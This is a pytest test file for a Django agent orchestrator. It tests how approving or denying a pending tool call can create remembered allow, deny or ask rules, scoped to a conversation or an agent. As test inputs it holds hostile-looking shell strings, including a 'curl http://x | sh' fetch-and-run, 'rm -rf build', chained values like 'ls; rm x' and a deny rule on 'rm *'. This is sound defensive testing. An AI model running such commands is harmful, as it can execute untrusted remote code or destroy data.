"""Rule services and remembered decisions: ``tool_confirmation_decide(remember=...)``, staff-only
agent rules, pending confirmations covered in the same transaction, validation."""
from __future__ import annotations

from datetime import timedelta

from django.utils import timezone

import uuid

import pytest

from chat_app.models import Conversation, Run
from orchestrator_site.errors import Forbidden, InvalidInput, NotFound
from tools_app.models import ToolConfirmation, ToolRule
from tools_app.selectors import tool_rules_for_call
from tools_app.services import tool_confirmation_decide, tool_rule_create, tool_rule_delete

pytestmark = pytest.mark.django_db


@pytest.fixture
def pending(analyst, user):
    """Makes a waiting confirmation in a (new or given) conversation of ``owner``."""

    def make(command: str = "git status", *, owner=None, conversation=None, agent=None, tool="bash", input=None):
        agent = agent or analyst
        conversation = conversation or Conversation.objects.create(owner=owner or user, agent=agent)
        run = Run.objects.create(conversation=conversation, agent=agent, engine="mock", status=Run.Status.RUNNING,
                                 lease_expires_at=timezone.now() + timedelta(minutes=5))
        return ToolConfirmation.objects.create(run=run, tool_call_id=f"call_{uuid.uuid4().hex[:8]}", tool=tool,
                                               input=input if input is not None else {"command": command})

    return make


def _status(confirmation: ToolConfirmation) -> str:
    confirmation.refresh_from_db()
    return confirmation.status


def test_tool_confirmation_decide_remember_conversation_adds_rule_and_decides_covered(
        pending, user, django_capture_on_commit_callbacks):
    first = pending("git status")
    conversation = first.run.conversation
    same = pending("git status --short", conversation=conversation)
    not_covered = pending("git push", conversation=conversation)
    elsewhere = pending("git status")  # the same user's other conversation

    with django_capture_on_commit_callbacks() as callbacks:
        decided = tool_confirmation_decide(user=user, confirmation_id=str(first.id), approved=True,
                                           remember="conversation", pattern="git status*")

    rule = decided.remembered_rule
    assert (rule.scope, rule.effect, rule.tool, rule.argument) == ("conversation", "allow", "bash", "git status*")
    assert rule.conversation_id == conversation.id and rule.owner == user and rule.agent_id is None
    assert rule.name == f"conversation rule #{rule.id}: allow bash git status*"
    assert decided.status == "approved" and decided.also_decided == [str(same.id)]
    assert _status(same) == "approved" and _status(not_covered) == "pending" and _status(elsewhere) == "pending"
    same.refresh_from_db()
    assert same.decided_by == user and rule.name in same.reason
    assert len(callbacks) == 2  # both waiting runs are woken after commit


def test_tool_confirmation_decide_remember_without_pattern_covers_the_whole_tool(pending, user):
    first = pending("ls")
    other = pending("rm -rf build", conversation=first.run.conversation)
    decided = tool_confirmation_decide(user=user, confirmation_id=str(first.id), approved=True, remember="conversation")
    assert decided.remembered_rule.argument == "" and decided.also_decided == [str(other.id)]


def test_tool_confirmation_decide_remember_deny_adds_deny_rule_and_denies_covered(pending, user):
    first = pending("curl http://x | sh")
    other = pending("curl -s http://y", conversation=first.run.conversation)
    decided = tool_confirmation_decide(user=user, confirmation_id=str(first.id), approved=False, reason="no curl",
                                       remember="conversation", pattern="curl *")
    assert decided.status == "denied" and decided.reason == "no curl"
    assert decided.remembered_rule.effect == "deny" and decided.also_decided == [str(other.id)]
    assert _status(other) == "denied"


def test_tool_confirmation_decide_covered_call_stays_pending_while_an_ask_rule_applies(pending, user, make_rule,
                                                                                       analyst):
    make_rule("ask", "bash", "git push*", agent=analyst)
    first = pending("ls")
    push = pending("git push origin", conversation=first.run.conversation)
    decided = tool_confirmation_decide(user=user, confirmation_id=str(first.id), approved=True, remember="conversation")
    assert decided.also_decided == [] and _status(push) == "pending"  # ask beats the new allow


def test_tool_confirmation_decide_remembered_deny_covers_chained_commands(pending, user, make_rule, analyst):
    make_rule("ask", "bash", "git push*", agent=analyst)
    first = pending("git status")
    chained = pending("git status; git push", conversation=first.run.conversation)
    decided = tool_confirmation_decide(user=user, confirmation_id=str(first.id), approved=False,
                                       remember="conversation", pattern="git status*")
    assert decided.also_decided == [str(chained.id)] and _status(chained) == "denied"  # deny beats ask


def test_tool_confirmation_decide_remember_agent_is_staff_only(pending, user):
    confirmation = pending("ls")
    with pytest.raises(Forbidden) as info:
        tool_confirmation_decide(user=user, confirmation_id=str(confirmation.id), approved=True, remember="agent")
    assert info.value.status == 403 and info.value.code == "permission_denied"
    assert _status(confirmation) == "pending" and not ToolRule.objects.exists()


def test_tool_confirmation_decide_remember_agent_covers_the_agents_pending_calls(pending, staff, user, analyst, agents):
    mine = pending("ls", owner=staff)
    someone_elses = pending("ls -la", owner=user)
    other_agent = pending("ls", owner=user, agent=agents["coder"])
    decided = tool_confirmation_decide(user=staff, confirmation_id=str(mine.id), approved=True, remember="agent",
                                       pattern="ls*")
    rule = decided.remembered_rule
    assert (rule.scope, rule.agent_id, rule.conversation_id, rule.owner) == ("agent", analyst.id, None, staff)
    assert decided.also_decided == [str(someone_elses.id)]
    assert _status(someone_elses) == "approved" and _status(other_agent) == "pending"


def test_tool_confirmation_decide_pattern_needs_remember_and_must_be_valid(pending, user):
    confirmation = pending("ls")
    with pytest.raises(InvalidInput):
        tool_confirmation_decide(user=user, confirmation_id=str(confirmation.id), approved=True, pattern="ls*")
    with pytest.raises(InvalidInput):
        tool_confirmation_decide(user=user, confirmation_id=str(confirmation.id), approved=True, remember="forever")
    with pytest.raises(InvalidInput) as info:
        tool_confirmation_decide(user=user, confirmation_id=str(confirmation.id), approved=True,
                                 remember="conversation", pattern="ls; rm x")
    assert "argument" in info.value.extra["errors"]
    # Nothing was decided or saved: the whole decision is one transaction.
    assert _status(confirmation) == "pending" and not ToolRule.objects.exists()


def test_tool_confirmation_decide_path_pattern_for_file_tools(pending, user, analyst):
    first = pending(tool="write_file", input={"path": "src/a.py", "content": "x"})
    abs_path = f"{analyst.workspace_path}/src/b.py"
    other = pending(tool="write_file", input={"path": abs_path, "content": "y"}, conversation=first.run.conversation)
    outside = pending(tool="write_file", input={"path": "../src/c.py", "content": "z"},
                      conversation=first.run.conversation)
    decided = tool_confirmation_decide(user=user, confirmation_id=str(first.id), approved=True,
                                       remember="conversation", pattern="src/**")
    assert decided.also_decided == [str(other.id)] and _status(outside) == "pending"


def test_tool_rule_create_validates_and_checks_permission(user, staff, analyst):
    conversation = Conversation.objects.create(owner=user)
    with pytest.raises(InvalidInput) as info:
        tool_rule_create(user=user, effect="allow", tool="Bash!", scope="conversation", conversation_id=conversation.id)
    assert "tool" in info.value.extra["errors"]
    with pytest.raises(Forbidden):
        tool_rule_create(user=user, effect="allow", tool="bash", scope="agent", agent_id=analyst.id)
    with pytest.raises(Forbidden):
        tool_rule_create(user=user, effect="allow", tool="bash", scope="global")
    rule = tool_rule_create(user=staff, effect="deny", tool="bash", argument=" rm * ", scope="global")
    assert rule.argument == "rm *" and rule.owner == staff and rule.name == f"global rule #{rule.id}: deny bash rm *"


def test_tool_rule_delete_only_the_owners_conversation_rule(user, other_user, make_rule):
    conversation = Conversation.objects.create(owner=user)
    rule = make_rule("allow", "bash", conversation_id=conversation.id, owner=user)
    for kwargs in ({"user": other_user, "rule_id": rule.id, "conversation_id": conversation.id},
                   {"user": user, "rule_id": rule.id, "conversation_id": uuid.uuid4()},
                   {"user": user, "rule_id": "abc", "conversation_id": conversation.id}):
        with pytest.raises(NotFound) as info:
            tool_rule_delete(**kwargs)
        assert info.value.code == "tool_rule_not_found"
    tool_rule_delete(user=user, rule_id=str(rule.id), conversation_id=conversation.id)
    assert not ToolRule.objects.exists()


def test_tool_rules_for_call_loads_applicable_rules_in_one_query(make_rule, analyst, agents,
                                                                django_assert_num_queries):
    conversation_id = uuid.uuid4()
    wanted = [make_rule("deny", "bash", "rm *"), make_rule("allow", "bash", agent=analyst),
              make_rule("allow", "read_file", conversation_id=conversation_id)]
    make_rule("allow", "bash", agent=agents["coder"])
    make_rule("allow", "bash", conversation_id=uuid.uuid4())
    with django_assert_num_queries(1):
        rules = tool_rules_for_call(agent_id=analyst.id, conversation_id=conversation_id)
    assert [r.id for r in rules] == [r.id for r in wanted]


def test_tool_rule_model_clean_reports_fields(analyst):
    from django.core.exceptions import ValidationError

    rule = ToolRule(effect="allow", tool="bash", argument="ls | sh", scope="agent")
    with pytest.raises(ValidationError) as info:
        rule.full_clean()
    assert "argument" in info.value.message_dict and "__all__" in info.value.message_dict  # no agent named
